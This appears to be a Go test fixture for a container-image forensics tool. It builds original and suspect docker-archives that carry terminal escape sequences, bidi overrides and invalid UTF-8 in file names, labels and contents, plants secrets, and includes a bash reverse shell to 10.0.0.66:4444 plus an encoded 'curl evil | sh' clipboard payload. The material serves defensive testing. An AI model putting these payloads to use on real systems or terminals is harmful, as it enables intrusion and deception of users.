package main

import (
	"testing"

	"github.com/strata-forensics/strata/forensics/imagebuild"
)

// Hostile text: what an image can hold to act on a terminal or a reader instead of being read.
const (
	oscTitle  = "\x1b]0;pwned\x07"                   // retitles the window
	oscClip   = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07" // writes the clipboard
	csiClear  = "\x1b[2J\x1b[H"                      // clears the screen
	rawC1     = "\x9b31m"                            // a C1 CSI as one raw byte (not UTF-8)
	encodedC1 = "\u009b31m"                          // a C1 CSI encoded as UTF-8
	rlo       = "\u202e"                             // right-to-left override
	isolate   = "\u2066"                             // left-to-right isolate
	badUTF8   = "\xff\xfe"
)

// hostileNames are file names an attacker picks.
var hostileNames = []string{
	"etc/cron.d/title" + oscTitle,
	"tmp/clip" + oscClip,
	"usr/bin/cls" + csiClear + "ls",
	"app/red" + rawC1 + "x",
	"app/c1" + encodedC1 + "x",
	"app/invoice" + rlo + "fdp.sh",
	"app/iso" + isolate + "late",
	"app/bad" + badUTF8 + "name",
	"app/new\nline",
	"app/car\rriage",
}

// hostileContent is a file's content that holds every kind of hostile sequence (invalid
// UTF-8 makes it binary); hostileText the same in valid UTF-8, which is text and gets content
// diffs and previews.
const (
	hostileText = "Welcome to the server, have a nice day and read the rules below before you start work\n" +
		oscTitle + " title\n" + oscClip + " clipboard\n" + csiClear + " clear\n" +
		encodedC1 + " encoded c1\n" + rlo + "txt.exe override\n" + isolate + " isolate\ncarriage\rreturn\n"
	hostileContent = hostileText + rawC1 + " raw c1\n" + badUTF8 + " bytes\n"
)

// hostilePair returns an original and a suspect docker-archive whose file names, tags, history
// lines, Env values, labels, authors and file contents hold escape sequences, C1 controls, bidi
// overrides and invalid UTF-8; the suspect adds hostile files, changes a hostile text file and
// plants a reverse shell whose match string sits next to an OSC sequence.
func hostilePair(t *testing.T, dir string) (orig, susp string) {
	t.Helper()
	base := imagebuild.Image{
		Tags:   []string{"hostile/app:1" + oscTitle},
		Author: "mallory " + csiClear,
		Config: imagebuild.Config{
			Env:        []string{"PATH=/usr/bin:/bin", "TITLE=" + oscTitle, "CLIP=" + oscClip, "RLO=" + rlo + "gnp.exe", "BAD=" + badUTF8},
			Labels:     map[string]string{"maintainer" + oscTitle: "me" + rawC1, "note": rlo + "evil"},
			Entrypoint: []string{"/bin/sh", "-c", "echo " + oscClip},
			User:       "root" + encodedC1,
		},
		Layers: []imagebuild.Layer{{
			CreatedBy: "/bin/sh -c #(nop) ADD file:abc in / " + oscTitle,
			Files: []imagebuild.File{
				imagebuild.Dir("etc"), imagebuild.Dir("etc/cron.d"), imagebuild.Dir("app"), imagebuild.Dir("tmp"), imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"),
				imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
				imagebuild.Reg("app/notes.txt", hostileContent),
				imagebuild.Reg("etc/motd", hostileText),
				imagebuild.Symlink("app/link", "/etc/"+oscTitle),
			},
		}},
	}
	o := base
	s := base
	s.Tags = []string{"hostile/app:2" + rlo}
	s.Layers = append(append([]imagebuild.Layer{}, base.Layers...), imagebuild.Layer{
		CreatedBy: "RUN /bin/sh -c echo " + oscClip + " " + rlo + " " + rawC1 + " " + badUTF8 + " # buildkit",
		Files: func() []imagebuild.File {
			var fs []imagebuild.File
			for _, n := range hostileNames {
				fs = append(fs, imagebuild.Reg(n, "x\n").WithName(n))
			}
			fs = append(fs,
				imagebuild.Reg("app/notes.txt", hostileContent+"added "+oscTitle+csiClear+rawC1+rlo+"\n"),
				imagebuild.Reg("etc/motd", hostileText+"added "+oscClip+csiClear+encodedC1+rlo+"\n"),
				imagebuild.Reg("usr/bin/update"+oscTitle, "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.66/4444 0>&1 "+oscTitle+"\n").WithMode(0o755),
			)
			return fs
		}(),
	})
	s.Config.Env = append(append([]string{}, base.Config.Env...), "ADDED="+csiClear+encodedC1)
	return saveRecipe(t, dir, "hostile-original", o), saveRecipe(t, dir, "hostile-suspect", s)
}

// secretPair writes imagebuild.SecretPair as docker-archives: the suspect plants an AWS key ID
// and secret in the Env, a private key in /root/.ssh/id_rsa and an npm token in /root/.npmrc.
func secretPair(t *testing.T, dir string) (orig, susp string) {
	t.Helper()
	o, s := imagebuild.SecretPair()
	return saveRecipe(t, dir, "secrets-original", o), saveRecipe(t, dir, "secrets-suspect", s)
}
